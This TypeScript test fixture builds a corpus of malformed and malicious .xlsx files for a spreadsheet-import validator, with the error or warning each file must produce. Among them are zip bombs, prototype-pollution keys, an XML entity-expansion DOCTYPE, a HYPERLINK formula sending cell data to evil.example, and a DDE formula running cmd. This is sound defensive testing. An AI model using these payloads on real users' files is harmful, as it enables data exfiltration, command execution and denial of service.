// The hostile corpus: ≥ 40 bad or tricky files with the outcome each must produce. Source of truth for
// tests/fixtures/exchange/hostile/ (written by `WRITE_HOSTILE=1 npx vitest run tests/shared/exchange/hostile`).
import { randomBytes } from 'node:crypto';
import * as XLSX from 'xlsx';
import type { ExchangeErrorKind } from '../../../shared/exchange/errors';
import { exportAssessment } from '../../../shared/exchange/export';
import type { RowProblem } from '../../../shared/exchange/form-read';
import type { HazardClass } from '../../../shared/exchange/hazards';
import { inspectZip } from '../../../shared/exchange/zip-guard';
import { hazardCases } from './hazard-corpus';
import { honestVariants } from './honest-variants';
import { readBook, rowOf, sampleInput, writeBook } from './sample';
import { rezip, setText, text, unzip, zip, type ZipMember } from './zip-tools';

/** What reading a corpus file must give; `says` are fragments the Vietnamese message must contain. */
export type Expect =
  | { error: ExchangeErrorKind; says?: (string | RegExp)[] }
  | { hazard: HazardClass; says?: (string | RegExp)[] }
  | { ok: 'warn'; hazards: HazardClass[]; differences?: number; says?: (string | RegExp)[] }
  | { ok: 'clean' }
  | { ok: 'differences'; count: number }
  | { ok: 'problems'; kinds: RowProblem['kind'][] }
  | { context: 'other-district' | 'wrong-parent' };

/** One corpus file. */
export interface HostileCase {
  name: string;
  bytes: Uint8Array;
  expect: Expect;
}

const enc = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));
const FORM = 'xl/worksheets/sheet1.xml';
const MANI = 'xl/worksheets/sheet3.xml';
const SST = 'xl/sharedStrings.xml';

function editBook(bytes: Uint8Array, edit: (wb: XLSX.WorkBook) => void): Uint8Array {
  const wb = readBook(bytes);
  edit(wb);
  return writeBook(wb);
}

function setManifest(wb: XLSX.WorkBook, key: string, value: string | undefined): void {
  const ws = wb.Sheets._manifest as XLSX.WorkSheet;
  for (let r = 1; r < 400; r++) {
    const a = ws[`A${r}`] as XLSX.CellObject | undefined;
    if (a?.v !== key) continue;
    if (value === undefined) delete ws[`A${r}`];
    else ws[`B${r}`] = { t: 's', v: value };
    return;
  }
  throw new Error(`no manifest key ${key}`);
}

function manifestValue(wb: XLSX.WorkBook, key: string): string {
  const ws = wb.Sheets._manifest as XLSX.WorkSheet;
  for (let r = 1; r < 400; r++)
    if ((ws[`A${r}`] as XLSX.CellObject | undefined)?.v === key) return String((ws[`B${r}`] as XLSX.CellObject).v);
  throw new Error(`no manifest key ${key}`);
}

function payload(wb: XLSX.WorkBook): string {
  const n = Number(manifestValue(wb, 'payloadParts'));
  return Array.from({ length: n }, (_, i) => manifestValue(wb, `payload.${i + 1}`)).join('');
}

/** Replaces the payload JSON (same number of parts: the text is split evenly). */
function setPayload(wb: XLSX.WorkBook, json: string): void {
  const n = Number(manifestValue(wb, 'payloadParts'));
  const size = Math.ceil(json.length / n);
  for (let i = 0; i < n; i++) setManifest(wb, `payload.${i + 1}`, json.slice(i * size, (i + 1) * size));
}

function setCell(wb: XLSX.WorkBook, addr: string, v: string): void {
  (wb.Sheets['Biểu mẫu 01'] as XLSX.WorkSheet)[addr] = { t: 's', v };
}

const formRow = (bytes: Uint8Array, code: string): number =>
  rowOf(readBook(bytes).Sheets['Biểu mẫu 01'] as XLSX.WorkSheet, code);

/** `xml` with `from` replaced by `to`; throws when `from` is not there (a case that would test nothing). */
function swap(xml: string, from: string, to: string): string {
  if (!xml.includes(from)) throw new Error(`no ${from}`);
  return xml.replace(from, to);
}

function replaceCell(xml: string, addr: string, cell: string): string {
  const re = new RegExp(`<c r="${addr}"[^>]*?(?:/>|>.*?</c>)`);
  if (!re.test(xml)) throw new Error(`no cell ${addr}`);
  return xml.replace(re, cell);
}

/** Builds the whole corpus in memory (deterministic apart from the random-bytes cases). */
export async function hostileCorpus(): Promise<HostileCase[]> {
  const base = (await exportAssessment(sampleInput())).bytes;
  const files = unzip(base);
  const cases: HostileCase[] = [];
  const add = (name: string, bytes: Uint8Array, expect: Expect) => cases.push({ name, bytes, expect });
  const r14 = formRow(base, '1.4');
  const r12 = formRow(base, '1.2');
  const minimalXlsx = (extra: ZipMember[]): Uint8Array =>
    zip([{ name: 'xl/workbook.xml', data: files.get('xl/workbook.xml') ?? enc('<workbook/>') }, ...extra]);

  // Not a zip at all.
  add('empty.xlsx', new Uint8Array(), { error: 'empty' });
  add(
    'random-bytes.xlsx',
    new Uint8Array(randomBytes(4096)).map((b, i) => (i === 0 ? 0x13 : b)),
    { error: 'not-zip' },
  );
  add('page.html.xlsx', enc('<!DOCTYPE html><html><body><table><tr><td>1.1</td></tr></table></body></html>'), {
    error: 'not-zip',
  });
  add('data.csv.xlsx', enc('TT,Chỉ số,Điểm\n1.1,Ban Chỉ đạo,20\n'), { error: 'not-zip' });
  add(
    'spreadsheetml-2003.xlsx',
    enc('<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>'),
    { error: 'not-zip' },
  );
  add('document.pdf.xlsx', new Uint8Array([...enc('%PDF-1.4\n'), 0xe2, 0xe3, 0xcf, 0xd3, 0, 1, 2]), {
    error: 'not-zip',
    says: ['PDF', 'Hãy chọn đúng tệp Excel'],
  });
  // Broken zips: the export without its comment (the form seal), so that its end-of-directory record ends the file.
  const sealed = inspectZip(base);
  const bare = base.slice(0, base.length - (sealed.ok ? sealed.comment.length : 0));
  if (bare.length === base.length) throw new Error('the export carries no zip comment: the broken-zip cases need one');
  new DataView(bare.buffer).setUint16(bare.length - 2, 0, true);
  add('truncated-half.xlsx', bare.slice(0, bare.length >> 1), { error: 'truncated' });
  add('truncated-tail.xlsx', bare.slice(0, bare.length - 10), { error: 'truncated' });
  const cdCut = bare.slice();
  new DataView(cdCut.buffer).setUint32(cdCut.length - 6, bare.length, true);
  add('central-directory-out-of-bounds.xlsx', cdCut, { error: 'truncated' });
  const z64 = bare.slice();
  new DataView(z64.buffer).setUint16(z64.length - 12, 0xffff, true);
  add('zip64-marker.xlsx', z64, { error: 'zip64' });
  // Bombs.
  add(
    'too-large.xlsx',
    Uint8Array.from({ length: Math.round(2.8 * 1024 * 1024) }, (_, i) => [0x50, 0x4b][i] ?? 0),
    { error: 'too-large', says: ['2,8 MB', 'tối đa 2 MB'] },
  );
  add('bomb-ratio.xlsx', minimalXlsx([{ name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(20 * 1024 * 1024) }]), {
    error: 'zip-bomb',
  });
  add(
    'bomb-total-size.xlsx',
    minimalXlsx(
      [0, 1, 2].map((i) => ({
        name: `xl/media/image${i}.bin`,
        data: new Uint8Array(randomBytes(400_000)),
        declaredSize: 20 * 1024 * 1024,
      })),
    ),
    { error: 'zip-bomb' },
  );
  add(
    'bomb-entry-count.xlsx',
    minimalXlsx(Array.from({ length: 2500 }, (_, i) => ({ name: `xl/x/${i}.xml`, data: enc('<a/>') }))),
    { error: 'too-many-entries' },
  );
  add(
    'bomb-declared-empty.xlsx',
    minimalXlsx([{ name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(5 * 1024 * 1024), declaredSize: 0 }]),
    { error: 'zip-bomb' },
  );
  // A liar: the manifest sheet declares its true size but inflates to 200 MB more: refused when the inflate passes
  // the declared size, long before the 200 MB are decoded.
  const liarData = Buffer.concat([Buffer.from(files.get(MANI) as Uint8Array), Buffer.alloc(200 * 1024 * 1024, 0x20)]);
  add(
    'bomb-liar-size.xlsx',
    zip(
      [...files].map(([name, data]) =>
        name === MANI ? { name, data: new Uint8Array(liarData), declaredSize: data.length } : { name, data },
      ),
    ),
    { error: 'zip-bomb', says: ['xl/worksheets/sheet3.xml', 'kích thước ghi trong tệp'] },
  );
  // A small liar (compressed well under 64 KB, inflated in one call): refused the same way.
  const smallLiar = Buffer.concat([Buffer.from(files.get(MANI) as Uint8Array), Buffer.alloc(2 * 1024 * 1024, 0x20)]);
  add(
    'bomb-liar-size-small.xlsx',
    zip(
      [...files].map(([name, data]) =>
        name === MANI ? { name, data: new Uint8Array(smallLiar), declaredSize: data.length } : { name, data },
      ),
    ),
    { error: 'zip-bomb', says: ['xl/worksheets/sheet3.xml', 'kích thước ghi trong tệp'] },
  );
  // <dimension> is only a hint: the caps apply to the cells that exist.
  add(
    'million-rows-declared.xlsx',
    rezip(base, (f) =>
      setText(f, FORM, text(f, FORM).replace(/<dimension ref="[^"]+"\/>/, '<dimension ref="A1:S1000000"/>')),
    ),
    { ok: 'clean' },
  );
  const manyRows = Array.from(
    { length: 150_000 },
    (_, i) => `<row r="${i + 30}"><c r="A${i + 30}"><v>${i}</v></c></row>`,
  ).join('');
  add(
    'many-real-rows.xlsx',
    rezip(base, (f) =>
      setText(
        f,
        MANI,
        text(f, MANI)
          .replace('</sheetData>', `${manyRows}</sheetData>`)
          .replace(/<dimension ref="[^"]+"\/>/, ''),
      ),
    ),
    { error: 'sheet-too-large' },
  );
  // Containers that are not xlsx.
  add(
    'macro.xlsm.xlsx',
    rezip(base, (f) => f.set('xl/vbaProject.bin', new Uint8Array(randomBytes(512)))),
    { hazard: 'macro', says: ['macro', 'đừng mở tệp gốc bằng Excel'] },
  );
  const cfb = XLSX.CFB.utils.cfb_new();
  XLSX.CFB.utils.cfb_add(cfb, '/EncryptionInfo', new Uint8Array(200));
  XLSX.CFB.utils.cfb_add(cfb, '/EncryptedPackage', new Uint8Array(randomBytes(5000)));
  add('password-protected.xlsx', new Uint8Array(XLSX.CFB.write(cfb, { type: 'array' }) as ArrayLike<number>), {
    error: 'encrypted',
    says: ['mật khẩu', 'Hãy gỡ mật khẩu'],
  });
  const other = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(
    other,
    XLSX.utils.aoa_to_sheet([
      ['Họ tên', 'Tuổi'],
      ['An', 30],
    ]),
    'Sheet1',
  );
  const xls = new Uint8Array(XLSX.write(other, { type: 'array', bookType: 'biff8' }) as ArrayBuffer);
  add('excel-97.xls.xlsx', xls, {
    error: 'xls',
    says: ['Excel 97–2003', 'Hãy mở tệp bằng Excel và lưu lại dưới dạng .xlsx'],
  });
  add('excel-97-with-password.xls.xlsx', withFilePass(xls), {
    error: 'encrypted',
    says: ['Excel 97–2003', 'mật khẩu', 'Hãy gỡ mật khẩu'],
  });
  add('opendocument.ods.xlsx', new Uint8Array(XLSX.write(other, { type: 'array', bookType: 'ods' }) as ArrayBuffer), {
    error: 'ods',
  });
  add(
    'word.docx.xlsx',
    zip([
      { name: '[Content_Types].xml', data: enc('<Types/>') },
      { name: 'word/document.xml', data: enc('<w:document/>') },
    ]),
    { error: 'docx' },
  );
  add('plain-zip.xlsx', zip([{ name: 'readme.txt', data: enc('xin chào') }]), { error: 'not-xlsx' });
  add('encrypted-entry.xlsx', zip([...files].map(([name, data]) => ({ name, data, flags: name === FORM ? 1 : 0 }))), {
    error: 'encrypted',
  });
  add('lzma-entry.xlsx', zip([...files].map(([name, data]) => ({ name, data, method: name === FORM ? 14 : 8 }))), {
    error: 'bad-compression',
  });
  // Workbooks that are not ours.
  add('wrong-template.xlsx', new Uint8Array(XLSX.write(other, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer), {
    error: 'no-manifest',
  });
  add(
    'missing-manifest.xlsx',
    editBook(base, (wb) => {
      wb.SheetNames = wb.SheetNames.filter((n) => n !== '_manifest');
      delete wb.Workbook;
    }),
    { error: 'no-manifest' },
  );
  add(
    'missing-form-sheet.xlsx',
    editBook(base, (wb) => {
      wb.SheetNames = wb.SheetNames.filter((n) => n !== 'Biểu mẫu 01');
      delete wb.Workbook;
    }),
    { error: 'no-form-sheet' },
  );
  add(
    'form-header-removed.xlsx',
    editBook(base, (wb) => {
      for (let r = 1; r < 60; r++)
        if ((wb.Sheets['Biểu mẫu 01'] as XLSX.WorkSheet)[`A${r}`]?.v === 'TT') setCell(wb, `A${r}`, 'STT');
    }),
    { error: 'no-form-sheet' },
  );
  // Manifests that are not right.
  add(
    'future-format-version.xlsx',
    editBook(base, (wb) => setManifest(wb, 'formatVersion', '2')),
    { error: 'future-version' },
  );
  add(
    'unknown-format.xlsx',
    editBook(base, (wb) => setManifest(wb, 'format', 'other-app/report')),
    { error: 'unknown-format' },
  );
  add(
    'tampered-sha256.xlsx',
    editBook(base, (wb) => setManifest(wb, 'sha256', '0'.repeat(64))),
    { error: 'hash-mismatch' },
  );
  add(
    'tampered-payload.xlsx',
    editBook(base, (wb) => setPayload(wb, payload(wb).replace('"value":"yes"', '"value":"no"'))),
    { error: 'hash-mismatch' },
  );
  add(
    'manifest-json-broken.xlsx',
    editBook(base, (wb) => setPayload(wb, payload(wb).slice(0, -20))),
    { error: 'manifest-invalid' },
  );
  add(
    'manifest-parts-missing.xlsx',
    editBook(base, (wb) => setManifest(wb, 'payloadParts', undefined)),
    { error: 'manifest-invalid' },
  );
  add(
    'manifest-revision-zero.xlsx',
    editBook(base, (wb) => setManifest(wb, 'revision', '0')),
    { error: 'manifest-invalid' },
  );
  add(
    'manifest-duplicate-key.xlsx',
    editBook(base, (wb) => {
      (wb.Sheets._manifest as XLSX.WorkSheet).A60 = { t: 's', v: 'sha256' };
      (wb.Sheets._manifest as XLSX.WorkSheet)['!ref'] = 'A1:C60';
    }),
    { error: 'manifest-invalid' },
  );
  add(
    'manifest-long-string.xlsx',
    rezip(base, (f) => setText(f, MANI, swap(text(f, MANI), '<v>0.1.0</v>', `<v>${'a'.repeat(100000)}!</v>`))),
    { error: 'cell-too-long' },
  );
  add(
    'form-long-string.xlsx',
    rezip(base, (f) =>
      setText(f, SST, text(f, SST).replace('<t>Thôn Đông, xã Gia Phong</t>', `<t>${'a'.repeat(100000)}!</t>`)),
    ),
    { error: 'cell-too-long' },
  );
  add(
    'proto-keys.xlsx',
    editBook(base, (wb) => {
      const ws = wb.Sheets._manifest as XLSX.WorkSheet;
      ws.A61 = { t: 's', v: '__proto__' };
      ws.B61 = { t: 's', v: '{"polluted":"yes"}' };
      ws.A62 = { t: 's', v: 'constructor' };
      ws.B62 = { t: 's', v: 'x' };
      ws['!ref'] = 'A1:C62';
      const o = JSON.parse(payload(wb)) as { entries: { raw: object }[]; info: object };
      for (const target of [o.info, (o.entries[0] as { raw: object }).raw, o]) {
        Object.defineProperty(target, '__proto__', {
          value: { polluted: 'yes' },
          enumerable: true,
          configurable: true,
          writable: true,
        });
      }
      setPayload(wb, JSON.stringify(o));
      setCell(wb, 'T21', '__proto__');
    }),
    { ok: 'clean' },
  );
  add(
    'context-other-district.xlsx',
    (await exportAssessment(sampleInput({ district: { code: '999', name: 'Huyện Khác' } }))).bytes,
    { context: 'wrong-parent' },
  );
  // Edited cells.
  add(
    'formula-hyperlink-in-value.xlsx',
    rezip(base, (f) =>
      setText(
        f,
        FORM,
        replaceCell(
          text(f, FORM),
          `K${r14}`,
          `<c r="K${r14}" t="str"><f>HYPERLINK("http://evil.example/?"&amp;A1,"Bấm")</f><v>Bấm</v></c>`,
        ),
      ),
    ),
    { ok: 'warn', hazards: ['formula'], differences: 1, says: [`ô K${r14} trang "Biểu mẫu 01"`] },
  );
  add(
    'formula-dde-in-value.xlsx',
    rezip(base, (f) =>
      setText(f, FORM, replaceCell(text(f, FORM), `L${r12}`, `<c r="L${r12}"><f>cmd|' /C calc'!A0</f><v>0</v></c>`)),
    ),
    { hazard: 'dde', says: [`ô L${r12} trang "Biểu mẫu 01"`, 'DDE', 'đừng mở tệp gốc bằng Excel'] },
  );
  add(
    'redos-number-in-value.xlsx',
    editBook(base, (wb) => setCell(wb, `L${r12}`, `${'1'.repeat(30000)}!`)),
    { ok: 'differences', count: 1 },
  );
  add(
    'tampered-values.xlsx',
    editBook(base, (wb) => {
      setCell(wb, `K${r14}`, 'no');
      setCell(wb, `L${r12}`, '15');
      setCell(wb, `J${r12}`, 'sửa');
    }),
    { ok: 'differences', count: 3 },
  );
  add(
    'duplicate-indicator-row.xlsx',
    editBook(base, (wb) => {
      const ws = wb.Sheets['Biểu mẫu 01'] as XLSX.WorkSheet;
      for (const c of 'ABCDEFGHIJKLMNOPQRS') {
        const cell = ws[`${c}${r12}`] as XLSX.CellObject | undefined;
        if (cell) ws[`${c}150`] = { ...cell };
      }
      ws['!ref'] = 'A1:S150';
    }),
    { ok: 'problems', kinds: ['duplicate-row'] },
  );
  add(
    'unknown-indicator-row.xlsx',
    editBook(base, (wb) => {
      setCell(wb, 'A151', '9.99');
      (wb.Sheets['Biểu mẫu 01'] as XLSX.WorkSheet)['!ref'] = 'A1:S151';
    }),
    { ok: 'problems', kinds: ['unknown-code'] },
  );
  add(
    'missing-indicator-row.xlsx',
    editBook(base, (wb) => {
      delete (wb.Sheets['Biểu mẫu 01'] as XLSX.WorkSheet)[`A${r12}`];
    }),
    { ok: 'problems', kinds: ['missing-row'] },
  );
  // Honest files from other tools.
  add(
    'honest-nfd.xlsx',
    rezip(base, (f) => {
      setText(f, SST, text(f, SST).normalize('NFD'));
      setText(f, MANI, text(f, MANI).normalize('NFD'));
    }),
    { ok: 'clean' },
  );
  add(
    'honest-thousands.xlsx',
    (
      await exportAssessment(
        sampleInput({
          entries: sampleInput().entries.map((e) => (e.code === '1.3' ? { ...e, raw: { value: '2.416' } } : e)),
        }),
      )
    ).bytes,
    { ok: 'clean' },
  );
  // SheetJS ignores DTDs: the entity stays unexpanded text in appVersion, which the hash does not cover.
  add(
    'xml-entity-expansion.xlsx',
    rezip(base, (f) =>
      setText(
        f,
        MANI,
        swap(
          swap(
            text(f, MANI),
            '?>',
            '?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
          ),
          '<v>0.1.0</v>',
          '<v>&lol2;</v>',
        ),
      ),
    ),
    { ok: 'clean' },
  );
  cases.push(...hazardCases(base));
  for (const v of await honestVariants()) if (v.name !== 'honest-plain.xlsx') add(v.name, v.bytes, { ok: 'clean' });
  return cases;
}

/** An Excel 97–2003 file whose workbook stream gets a FILEPASS record after BOF (what a password adds). */
function withFilePass(xls: Uint8Array): Uint8Array {
  const cfb = XLSX.CFB.read(xls, { type: 'array' });
  const entry = XLSX.CFB.find(cfb, 'Workbook');
  if (!entry) throw new Error('no Workbook stream');
  const data = Buffer.from(entry.content as Uint8Array);
  const bofEnd = 4 + data.readUInt16LE(2);
  const filepass = Buffer.alloc(4 + 54);
  filepass.writeUInt16LE(0x2f, 0);
  filepass.writeUInt16LE(54, 2);
  filepass.writeUInt16LE(1, 4);
  entry.content = new Uint8Array(Buffer.concat([data.subarray(0, bofEnd), filepass, data.subarray(bofEnd)]));
  entry.size = entry.content.length;
  return new Uint8Array(XLSX.CFB.write(cfb, { type: 'array' }) as ArrayLike<number>);
}
